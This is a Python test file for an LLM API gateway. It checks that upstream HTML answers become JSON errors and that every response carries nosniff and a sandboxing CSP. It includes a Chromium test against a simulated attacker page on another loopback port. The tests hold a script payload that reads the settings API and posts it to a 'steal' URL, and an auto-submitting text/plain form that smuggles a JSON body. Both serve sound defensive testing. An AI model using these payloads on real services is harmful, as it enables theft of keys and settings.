"""The gateway's answers are never a web page on its origin (which the settings page shares): API
answers are JSON or SSE whatever the upstream calls its answer, upstream HTML errors become
OpenAI-format JSON errors, and every response says `nosniff` with a sandboxing CSP. In
Chromium, a page on another loopback port that form-posts to the gateway cannot get upstream
script to run there."""

from __future__ import annotations

import json
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from aoa_proxy.app import create_app
from aoa_proxy.config import load_settings
from aoa_proxy.hardening import SANDBOX_CSP
from tests.conftest import Gateway, StartGateway
from tests.desktop_settings.conftest import browser  # noqa: F401  (Debian Chromium)
from tests.fakes import FakeUpstream, Received, RecordingServer
from tests.reliability.conftest import SERVER_KEY, provider_env

CHAT = "/v1/chat/completions"
KINDS = ["openai", "azure", "yi", "gemini"]
# Valid JSON (a string) that is also a working HTML page: parsing it as JSON is not enough.
SCRIPT = (
    "<script>fetch('/settings/api/state').then(r => r.text())"
    ".then(t => fetch('{steal}', {{method: 'POST', mode: 'no-cors', body: t}}))</script>"
)


def _body(stream: bool = False) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": "hi"}], "stream": stream}


async def _post(
    gw: Gateway, body: dict[str, Any], headers: dict[str, str] | None = None
) -> tuple[int, dict[str, str], bytes]:
    async with (
        aiohttp.ClientSession() as s,
        s.post(
            gw.url + CHAT, json=body, headers={"Authorization": "Bearer c", **(headers or {})}
        ) as r,
    ):
        return r.status, {k.lower(): v for k, v in r.headers.items()}, await r.read()


def _answers_with(status: int, body: bytes | str, content_type: str | None) -> Any:
    async def respond(request: web.Request, rec: Received) -> web.StreamResponse:
        data = body.encode() if isinstance(body, str) else body
        resp = web.Response(status=status, body=data)
        if content_type is None:
            resp.headers.popall("Content-Type", None)
        else:
            resp.headers["Content-Type"] = content_type
        return resp

    return respond


def _assert_hardened(headers: dict[str, str], what: object = "") -> None:
    assert headers.get("x-content-type-options") == "nosniff", (what, headers)
    assert headers.get("content-security-policy") == SANDBOX_CSP, (what, headers)


def _assert_json_error(status: int, headers: dict[str, str], data: bytes, want: int) -> str:
    assert status == want, data[:300]
    assert headers["content-type"].split(";")[0] == "application/json", headers
    err = json.loads(data)["error"]
    assert {"message", "type", "param", "code"} <= set(err), err
    _assert_hardened(headers)
    return str(err["message"])


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("kind", KINDS)
async def test_upstream_200_html_is_a_json_error(
    upstream: FakeUpstream, start_gateway: StartGateway, kind: str, stream: bool
) -> None:
    page = json.dumps(SCRIPT.format(steal="http://127.0.0.1:9/"))
    upstream.responder = _answers_with(200, page, "text/html; charset=utf-8")
    gw = await start_gateway(provider_env(kind, upstream.url))
    status, headers, data = await _post(gw, _body(stream))
    message = _assert_json_error(status, headers, data, 502)
    assert "text/html" in message
    assert b"<script" not in data
    assert upstream.received  # the upstream really answered this


@pytest.mark.parametrize("status", [400, 403, 500, 502])
@pytest.mark.parametrize("kind", KINDS)
async def test_upstream_html_error_with_script_is_a_json_error(
    upstream: FakeUpstream, start_gateway: StartGateway, kind: str, status: int
) -> None:
    page = (
        "<!doctype html>\n<html><head><title>Gateway trouble</title></head><body>\r\n"
        f"<h1>Try later</h1>\x1b[31m{SCRIPT.format(steal='http://127.0.0.1:9/')}</body></html>"
    )
    upstream.responder = _answers_with(status, page, "text/html")
    gw = await start_gateway(provider_env(kind, upstream.url))
    got, headers, data = await _post(gw, _body())
    message = _assert_json_error(got, headers, data, status)
    assert "Try later" in message  # trimmed text of the page, on one line
    assert not any(c in message for c in "\n\r\x1b")
    assert b"<" not in data and b">" not in data  # no markup in the bytes at all


UPSTREAM_TYPES = [
    # (upstream Content-Type, the status the client gets)
    ("text/html", 502),
    ("application/xhtml+xml", 502),
    ("image/svg+xml", 502),
    ("text/xml", 502),
    ("application/javascript", 502),
    ("multipart/x-mixed-replace; boundary=x", 502),
    ("application/json", 200),
    ("application/json; charset=utf-8", 200),
    ("application/vnd.openai+json", 200),
    ("text/plain", 200),
    (None, 200),
]


@pytest.mark.parametrize(("content_type", "want"), UPSTREAM_TYPES)
async def test_api_answers_are_only_json_whatever_the_upstream_says(
    upstream: FakeUpstream, start_gateway: StartGateway, content_type: str | None, want: int
) -> None:
    answer = json.dumps({"id": "x", "object": "chat.completion", "choices": [], "html": "<b>"})
    upstream.responder = _answers_with(200, answer, content_type)
    gw = await start_gateway(provider_env("openai", upstream.url))
    status, headers, data = await _post(gw, _body())
    assert status == want, data[:300]
    assert headers["content-type"] == "application/json"
    _assert_hardened(headers, content_type)
    if want == 200:
        assert json.loads(data) == json.loads(answer)


async def test_every_response_carries_nosniff_and_the_sandbox_csp(
    upstream: FakeUpstream, start_gateway: StartGateway
) -> None:
    gw = await start_gateway({**provider_env("openai", upstream.url), "AOA_MAX_BODY_BYTES": "4096"})
    local = {"Origin": "http://localhost:3000"}
    preflight = {**local, "Access-Control-Request-Method": "POST"}
    requests: list[tuple[str, str, dict[str, str], bytes | None, int]] = [
        ("GET", "/health", {}, None, 200),
        ("GET", "/", {}, None, 200),
        ("GET", "/ping", {}, None, 200),
        ("GET", "/v1/models", {}, None, 200),
        ("POST", CHAT, local, json.dumps(_body()).encode(), 200),
        ("POST", CHAT, {}, json.dumps(_body(stream=True)).encode(), 200),
        ("OPTIONS", CHAT, preflight, None, 204),
        ("OPTIONS", CHAT, {**preflight, "Origin": "https://evil.example"}, None, 403),
        ("POST", CHAT, {"Origin": "https://evil.example"}, b"{}", 403),
        ("GET", "/v1/models", {"Host": "evil.example"}, None, 403),
        ("GET", "/nope", {}, None, 404),
        ("OPTIONS", "/nope", preflight, None, 404),
        ("DELETE", "/v1/models", {}, None, 405),
        ("POST", CHAT, {}, b"{not json", 400),
        ("POST", CHAT, {}, b"x" * 8192, 413),
    ]
    async with aiohttp.ClientSession() as s:
        for method, path, headers, data, want in requests:
            async with s.request(method, gw.url + path, headers=headers, data=data) as r:
                await r.read()
                assert r.status == want, (method, path)
                _assert_hardened({k.lower(): v for k, v in r.headers.items()}, (method, path))
    gw.runtime.paused = True
    status, headers, _ = await _post(gw, _body())
    assert status == 503
    _assert_hardened(headers, "paused")


async def test_a_route_with_its_own_policy_keeps_it(upstream: FakeUpstream) -> None:
    """The settings page sets a stricter, page-shaped CSP; the gateway must not replace it."""
    app = create_app(load_settings(provider_env("openai", upstream.url)))
    own = "default-src 'none'; script-src 'self'"

    async def with_policy(request: web.Request) -> web.Response:
        headers = {"Content-Security-Policy": own}
        return web.Response(text="<p>hi", content_type="text/html", headers=headers)

    async def page(request: web.Request) -> web.Response:
        return web.Response(text="<p>hi", content_type="text/html")

    app.router.add_get("/own", with_policy)
    app.router.add_get("/plain", page)
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    try:
        async with aiohttp.ClientSession() as s:
            async with s.get(f"http://127.0.0.1:{server.port}/own") as r:
                assert r.headers["Content-Security-Policy"] == own
                assert r.headers["X-Content-Type-Options"] == "nosniff"
            async with s.get(f"http://127.0.0.1:{server.port}/plain") as r:
                assert r.headers["Content-Security-Policy"] == SANDBOX_CSP
    finally:
        await server.close()


# ----------------------------------------------------------------------------- in Chromium


class _Attacker(RecordingServer):
    """A web page on another loopback port: it form-posts a JSON body to the gateway (a "simple"
    request, no preflight) and collects whatever the planted script sends it."""

    target = ""

    async def handle(self, request: web.Request, rec: Received) -> web.StreamResponse:
        if request.path == "/steal":
            return web.Response(text="thanks")
        name = json.dumps(_body())[:-1] + ', "pad": "'
        page = (
            "<!doctype html><body onload='document.forms[0].submit()'>"
            f"<form method=post enctype=text/plain action='{self.target}'>"
            f"<input type=hidden name='{name}' value='\"}}'></form>"
        )
        return web.Response(text=page, content_type="text/html")


async def test_page_on_another_port_cannot_run_upstream_html_on_the_gateway_origin(
    browser: Any,  # noqa: F811
    upstream: FakeUpstream,
) -> None:
    attacker = await _Attacker().start()
    steal = f"{attacker.url}/steal"
    upstream.responder = _answers_with(200, json.dumps(SCRIPT.format(steal=steal)), "text/html")
    # The gateway holds a key and the settings API shares its origin; the stand-in below
    # counts every request that reaches it.
    app = create_app(load_settings(provider_env("openai", upstream.url)))
    state_reads: list[str] = []

    async def state(request: web.Request) -> web.Response:
        state_reads.append(request.headers.get("Referer", ""))
        return web.json_response({"providers": {"openai": {"key": SERVER_KEY[-4:]}}})

    app.router.add_get("/settings/api/state", state)
    gateway = TestServer(app, host="127.0.0.1")
    await gateway.start_server()
    gw_url = f"http://127.0.0.1:{gateway.port}"
    attacker.target = gw_url + CHAT
    context = await browser.new_context()
    try:
        page = await context.new_page()
        seen: list[str] = []
        page.on("request", lambda r: seen.append(r.url))
        await page.goto(attacker.url + "/")
        await page.wait_for_url(attacker.target, wait_until="load")
        # The post got through to the upstream, whose answer was the planted page...
        assert any(r.path.endswith("/chat/completions") for r in upstream.received)
        # ...but the browser got a JSON error, with nothing to run and no right to run it.
        assert await page.evaluate("document.contentType") == "application/json"
        text = await page.evaluate("document.body ? document.body.innerText : ''")
        assert json.loads(text)["error"]["code"] == "upstream_unreachable"
        assert await page.evaluate("document.scripts.length") == 0
    finally:
        await context.close()
        await gateway.close()
        await attacker.close()
    assert state_reads == []
    assert not [u for u in seen if "/settings/" in u or u.startswith(steal)]
    assert not [r for r in attacker.received if r.path == "/steal"]
